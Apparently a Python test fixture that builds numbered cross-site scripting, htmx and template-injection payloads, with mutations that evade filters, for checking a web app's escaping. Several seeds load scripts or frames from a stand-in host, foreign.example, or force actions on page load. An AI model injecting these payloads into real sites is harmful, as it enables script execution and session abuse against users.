"""Texts that would do something if a page took them for markup: a list of seeds by kind, and changes by chance.

Each names its number {n} in what it would do, so that whatever happens leads back to one text. None holds a NUL, which
PostgreSQL stores nowhere.
"""

import random
from collections.abc import Callable, Iterator
from itertools import cycle

#: Nothing of ours may ever ask for these.
FOREIGN_HOST = "foreign.example"
OWN_PATH = "/planted"

SEEDS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>alert({n})</script>",
        "<script src=//foreign.example/{n}.js></script>",
        "</script><script>alert({n})</script>",
        "<scr<script>ipt>alert({n})</scr</script>ipt>",
        "<script type=module>import('//foreign.example/{n}.js')</script>",
        "<ScRiPt\n>alert({n})</ScRiPt\t>",
    ),
    "handler": (
        "<img src=x onerror=alert({n})>",
        "<body onload=alert({n})>",
        "<input autofocus onfocus=alert({n})>",
        "<details open ontoggle=alert({n})>",
        "<video><source onerror=alert({n})></video>",
        "<audio src=x onerror=alert({n})>",
        "<marquee onstart=alert({n})>",
        "<style onload=alert({n})></style>",
        "<div style=animation-name:x onanimationstart=alert({n})>",
    ),
    "svg": (
        "<svg onload=alert({n})>",
        "<svg><script>alert({n})</script></svg>",
        "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert({n})>#x'/></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>",
    ),
    "frame": (
        "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
        "<iframe src=javascript:alert({n})></iframe>",
        "<iframe src=//foreign.example/{n}></iframe>",
        "<object data=//foreign.example/{n}></object>",
        "<embed src=//foreign.example/{n}>",
    ),
    "address": (
        "javascript:alert({n})",
        "java\tscript:alert({n})//",
        "<a href=javascript:alert({n})>approved</a>",
        "<a href='data:text/html,<script>alert({n})</script>'>approved</a>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydChOKTwvc2NyaXB0Pg==",
        "<base href=//foreign.example/{n}/>",
    ),
    "attribute": (
        '" onmouseover=alert({n}) autofocus onfocus=alert({n}) x="',
        "' onfocus=alert({n}) autofocus x='",
        '"><img src=x onerror=alert({n})>',
        "'><svg onload=alert({n})>",
        '" style="background:url(//foreign.example/{n})" x="',
        "` onerror=alert({n}) `",
    ),
    "htmx": (
        "<div hx-get=/planted/{n} hx-trigger=load></div>",
        "<div data-hx-get=/planted/{n} data-hx-trigger=load></div>",
        "<b hx-on::load=alert({n}) hx-get=/planted/{n} hx-trigger='load, every 1s'>x</b>",
        "<form hx-post=/sign-out hx-trigger=load><input name=n value={n}></form>",
        "<div hx-get=//foreign.example/{n} hx-trigger=revealed hx-swap=outerHTML>x</div>",
        "<img hx-get=/planted/{n} hx-vals='js:{a:alert({n})}' hx-trigger=load>",
        '" hx-get="/planted/{n}" hx-trigger="load" x="',
        "<div hx-ext=morph hx-swap-oob=true id=content>{n}</div>",
        "<meta name=htmx-config content='{\"allowEval\":true}'>",
    ),
    "closing": (
        "</title><script>alert({n})</script>",
        "</textarea><img src=x onerror=alert({n})>",
        "</style><script>alert({n})</script>",
        "</pre></details></main><script>alert({n})</script>",
        "<!--><img src=x onerror=alert({n})>-->",
        "</option></select><img src=x onerror=alert({n})>",
        "]]><script>alert({n})</script>",
    ),
    "template": (
        "{{7*7}}{n}",
        "{% include '/etc/passwd' %}{n}",
        "${alert({n})}",
        "#{alert({n})}",
        "<%= {n} %>",
        "{{config}}{n}",
    ),
    "json": (
        '"},"x":alert({n})}//',
        "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
        "</script><!--{{n}}",
        "\u2028alert({n})\u2029",
        "'-alert({n})-'",
    ),
    "style": (
        "<style>@import '//foreign.example/{n}.css';</style>",
        "<link rel=stylesheet href=//foreign.example/{n}.css>",
        "<link rel=prefetch href=//foreign.example/{n}>",
        "<p style='background:url(//foreign.example/{n})'>{n}</p>",
        "red;background:url(//foreign.example/{n})",
    ),
    "form": (
        "<form action=//foreign.example/{n}><button autofocus>Approve</button></form>",
        "<button formaction=javascript:alert({n})>Approve</button>",
        "<input name=csrf_token value={n}>",
        "<meta http-equiv=refresh content='0;url=//foreign.example/{n}'>",
    ),
    "hidden": (
        "dev\u202eorppa\u202c {n}",
        "appr\u200boved\ufeff {n}",
        "\u2067rejected\u2069 {n}",
        "{n}\u2028approved",
        "a\u0007b\u001b[2J{n}",
        "<\u200bscript>alert({n})</script>",
    ),
}

CHANGES: tuple[Callable[[str, random.Random], str], ...] = (
    lambda text, _: text,
    lambda text, _: text.upper().replace("ALERT(", "alert("),
    lambda text, chance: "".join(chance.choice((str.upper, str.lower))(sign) for sign in text[:8]) + text[8:],
    lambda text, _: text.replace(" ", "/"),
    lambda text, _: text.replace(" ", "\n"),
    lambda text, _: text.replace("<", "<\u200b", 1) + text,
    lambda text, _: f'"{text}',
    lambda text, _: f"'>{text}",
    lambda text, _: f'">{text}<"',
    lambda text, _: f"Amina {text} Bello",
    lambda text, _: f"&lt;{text}&#60;",
    lambda text, _: text.replace("<", "\uff1c").replace(">", "\uff1e") + text,
    lambda text, chance: "x" * chance.randrange(60) + text,
    lambda text, _: text.replace("alert(", "top['al'+'ert']("),
)


def one_of_each_kind() -> list[str]:
    return [numbered(seeds[0], number) for number, seeds in enumerate(SEEDS.values(), 1)]


def all_seeds() -> list[str]:
    return [numbered(seed, number) for number, seed in enumerate((s for kind in SEEDS.values() for s in kind), 1)]


def markup(count: int, seed: int = 1) -> list[str]:
    """All seeds as they are, then as many changed ones as are wanted, no two alike."""
    chance, made = random.Random(seed), dict.fromkeys(all_seeds())
    for number, text in _endless(len(made)):
        if len(made) >= count:
            break
        made.setdefault(numbered(chance.choice(CHANGES)(text, chance), number))
    return list(made)[:count]


def _endless(after: int) -> Iterator[tuple[int, str]]:
    yield from enumerate(cycle([seed for kind in SEEDS.values() for seed in kind]), after + 1)


def numbered(text: str, number: int) -> str:
    return text.replace("{n}", str(number)).replace("{N}", str(number))


def in_bundles(texts: list[str], count: int) -> list[str]:
    """The same texts as `count` longer ones, each beginning with another kind."""
    return [" ".join(texts[start::count]) for start in range(count)]
